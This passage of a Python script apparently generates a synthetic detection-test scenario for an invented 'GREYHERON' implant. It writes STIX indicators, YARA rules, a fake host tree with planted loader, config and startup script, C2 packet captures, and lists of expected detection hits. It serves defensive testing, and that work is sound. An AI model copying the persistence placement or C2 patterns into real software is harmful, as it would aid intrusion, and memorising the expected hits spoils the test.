         "sectors": ["government"], "contact_information": "cert@cert.example"},
        dict(common, type="malware", id=mal, name=FAMILY, is_family=True,
             malware_types=["backdoor", "remote-access-trojan"],
             description="Invented implant family used only in Parley's synthetic scenario: a "
                         "loader (%s) that beacons to %s." % (LOADER_NAME, C2_DOMAIN),
             aliases=["GreyHeron"], capabilities=["communicates-with-c2", "persists-after-system-reboot"]),
    ]
    inds = []
    for key, name, pattern, ptype, kind, pred in spec:
        iid = sid("indicator", key)
        o = dict(common, type="indicator", id=iid, name=name, pattern=pattern, pattern_type=ptype,
                 valid_from=TS, indicator_types=["malicious-activity"])
        if ptype == "stix":
            o["pattern_version"] = "2.1"
        objs.append(o)
        objs.append(dict(common, type="relationship", id=sid("relationship", key),
                         relationship_type="indicates", source_ref=iid, target_ref=mal))
        inds.append({"key": key, "id": iid, "name": name, "pattern": pattern,
                     "pattern_type": ptype, "kind": kind, "pred": pred})
    bundle = {"type": "bundle", "id": sid("bundle", "indicators"), "objects": objs}
    return bundle, inds


# ---------------------------------------------------------------------------------------------
# Expected hits
# ---------------------------------------------------------------------------------------------


def file_info(rel, data):
    return {"path": rel, "name": rel.rsplit("/", 1)[-1], "size": len(data),
            **{k: hashlib.new(k, data).hexdigest() for k in ("md5", "sha1", "sha256", "sha512")}}


def file_hits(files, inds):
    """files: {rel: bytes} (every file that can hit).  Returns hits without dataset."""
    hits = []
    for rel in sorted(files):
        data = files[rel]
        info = file_info(rel, data)
        for rule in RULES:
            off = match_rule(rule, data)
            if off is not None:
                hits.append({"rule": rule[0], "path": rel, "offset": off})
        for ind in inds:
            if ind["kind"] == "file" and ind["pred"](info):
                hits.append({"indicator": ind["id"], "path": rel})
            elif ind["kind"] == "yara":
                off = match_rule(YARA_INDICATOR_RULE, data)
                if off is not None:
                    hits.append({"indicator": ind["id"], "path": rel, "offset": off})
    return hits


def net_hits(pc, inds):
    hits = []
    for n, p in enumerate(pc.meta, 1):
        for ind in inds:
            if ind["kind"] == "net" and ind["pred"](p):
                hits.append({"indicator": ind["id"], "packet": n})
    return hits


def hit_key(h):
    return (h.get("dataset", ""), h.get("rule", ""), h.get("indicator", ""), h.get("path", ""),
            h.get("packet", 0))


def dump_json(obj):
    return (json.dumps(obj, indent=2, sort_keys=True) + "\n").encode()


def sha256(b):
    return hashlib.sha256(b).hexdigest()


# ---------------------------------------------------------------------------------------------


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--size-mb", type=int, default=20,
                    help="benign bulk of each accused tree, MiB (default 20)")
    a = ap.parse_args()
    t0 = time.monotonic()
    seed = a.seed
    out = os.path.abspath(a.outdir)
    for sub in ("package", "accused"):
        shutil.rmtree(os.path.join(out, sub), ignore_errors=True)
    pkg = os.path.join(out, "package")

    loader = make_loader(seed)
    config = make_config("GH-%08x" % random.Random("%d/id" % seed).getrandbits(32), C2_V4)
    bundle, inds = build_indicators(seed, loader, config, SCRIPT)
    rules_yar = ("// Synthetic YARA rules for the invented GREYHERON family (Parley test scenario).\n"
                 "// TLP:AMBER. Generated by scripts/make_scenario.py.\n\n" +
                 "\n".join(rule_text(r) for r in RULES)).encode()

    # --- package: sample-host tree ---
    rng = random.Random("%d/sample-host" % seed)
    host = {
        "Windows/System32/" + LOADER_NAME: loader,
        "ProgramData/Microsoft/Crypto/RSA/cfg.dat": config,
        "Users/jdoe/AppData/Roaming/Microsoft/Windows/upd.ps1": SCRIPT,
        "Windows/System32/drivers/etc/hosts": text_blob(rng, 12),
        "Windows/System32/kernelbase.dll": scrub(Stream(seed, "host/kernelbase").read(72 * 1024)),
        "Windows/System32/svchost.exe": scrub(Stream(seed, "host/svchost").read(52 * 1024)),
        "Users/jdoe/Documents/minutes-2025-03.txt": text_blob(rng, 60),
        "Users/jdoe/Pictures/holiday.jpg": scrub(Stream(seed, "host/jpg").read(90 * 1024)),
        "Windows/Logs/update.log": text_blob(rng, 200),
    }
    for rel, data in host.items():
        write_file(os.path.join(pkg, "datasets/sample-host"), rel, data)
    pcap = package_capture(seed)
    pcap_bytes = pcap.bytes()
    write_file(pkg, "datasets/c2.pcap", pcap_bytes)
    ind_bytes = dump_json(bundle)
    write_file(pkg, "indicators.json", ind_bytes)
    write_file(pkg, "rules.yar", rules_yar)

    expected = ([dict(h, dataset="sample-host") for h in file_hits(host, inds)] +
                [dict(h, dataset="c2-capture") for h in net_hits(pcap, inds)])
    expected.sort(key=hit_key)
    files = {"indicators.json": sha256(ind_bytes), "rules.yar": sha256(rules_yar),
             "datasets/c2.pcap": sha256(pcap_bytes)}
    for rel, data in host.items():
        files["datasets/sample-host/" + rel] = sha256(data)
    manifest = {
        "parley": "evidence/v1",
        "title": "GREYHERON implant: loader, configuration and C2 traffic (synthetic scenario)",
        "reproduce": (
            "Compile rules.yar with YARA and scan every file under datasets/sample-host "
            "recursively; for each matching rule report the file and the lowest offset at which "
            "any of the rule's strings matched. Apply the STIX 2.1 indicators of indicators.json: "
            "file indicators (hashes, name, size) to every file under datasets/sample-host, the "
            "indicator whose pattern_type is yara like a rule of rules.yar, and network "
            "indicators (ipv4-addr, ipv6-addr, domain-name, url, network-traffic) to every packet "
            "of datasets/c2.pcap, one hit per matching packet (frames numbered from 1 as Wireshark "
            "does). Indicators outside that subset (registry keys, mutexes, FOLLOWEDBY/WITHIN) "
            "are not reproduced. The hits must equal the list in 'expected'."),
        "stix": ["indicators.json"],
        "yara": ["rules.yar"],
        "files": dict(sorted(files.items())),
        "datasets": [
            {"name": "sample-host", "kind": "files", "root": "datasets/sample-host"},
            {"name": "c2-capture", "kind": "pcap", "path": "datasets/c2.pcap"},
        ],
        "expected": expected,
    }
    write_file(pkg, "manifest.json", dump_json(manifest))

    # --- accused side ---
    acc = os.path.join(out, "accused")
    inf_root = os.path.join(acc, "infected", "files")
    cln_root = os.path.join(acc, "clean", "files")
    inf_small, n_inf = write_benign_tree(inf_root, seed, "infected", a.size_mb)
    cln_small, n_cln = write_benign_tree(cln_root, seed, "clean", a.size_mb)

    def big_with(label, size, plants):
        buf = bytearray(scrub(Stream(seed, label).read(size)))
        for off, b in plants:
            buf[off:off + len(b)] = b
        return bytes(buf)

    planted = {
        "ProgramData/Microsoft/Crypto/" + LOADER_NAME: loader,                 # same loader, other path
        "Users/alice/AppData/Local/Temp/~DF3A21.tmp": loader,                  # renamed copy
        "ProgramData/Microsoft/Crypto/RSA/MachineKeys/cfg.dat":
            make_config("GH-5e11a7c0", "203.0.113.71"),                        # config variant
        "Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/upd.ps1": SCRIPT,
        "Users/alice/Downloads/setup_bundle.bin":                              # markers inside
            big_with("plant/bundle", 3 * 1024 * 1024 + 123,
                     [(1_234_567, STUB_HEX), (2_000_003, INIT_MARK)]),
        "Windows/Temp/mem-0412.dmp":
            big_with("plant/dump", 2 * 1024 * 1024, [(777_777, wide(MUTEX)),
                                                    (1_500_001, wide(USER_AGENT))]),
        "Program Files/Fabrikam Backup/catalog.db":                            # UA only: YARA indicator
            big_with("plant/catalog", 700_000, [(654_321, USER_AGENT.encode())]),
    }
    for rel, data in planted.items():
        write_file(inf_root, rel, data)
    inf_cap = accused_capture(seed, True, 60)
    cln_cap = accused_capture(seed, False, 60)
    write_file(acc, "infected/capture.pcap", inf_cap.bytes())
    write_file(acc, "clean/capture.pcap", cln_cap.bytes())

    exp_inf = {"files": sorted(file_hits({**inf_small, **planted}, inds), key=hit_key),
               "capture": sorted(net_hits(inf_cap, inds), key=hit_key)}
    exp_cln = {"files": sorted(file_hits(cln_small, inds), key=hit_key),
               "capture": sorted(net_hits(cln_cap, inds), key=hit_key)}
    if exp_cln["files"] or exp_cln["capture"]:
        sys.exit("make_scenario: internal error: the clean data has hits")
    write_file(acc, "expected-infected.json", dump_json(exp_inf))
    write_file(acc, "expected-clean.json", dump_json(exp_cln))

    n_sup = sum(1 for i in inds if i["kind"] != "unsupported")
    print("Generated the synthetic GREYHERON scenario (seed %d) in %s in %.1f s: an evidence "
          "package (%d indicators, %d in the supported subset, %d YARA rules, a sample-host tree "
          "of %d files and a %d-packet capture; %d expected hits) and the accused side's data: an "
          "infected tree (%d benign bulk files of %d MiB plus %d planted files; %d expected file "
          "hits) with a %d-packet capture (%d expected packet hits), and a clean tree and "
          "%d-packet capture with no expected hits." % (
              seed, out, time.monotonic() - t0, len(inds), n_sup, len(RULES), len(host),
              len(pcap.frames), len(expected), n_inf, a.size_mb, len(planted),
              len(exp_inf["files"]), len(inf_cap.frames), len(exp_inf["capture"]),
              len(cln_cap.frames)))


if __name__ == "__main__":
    main()
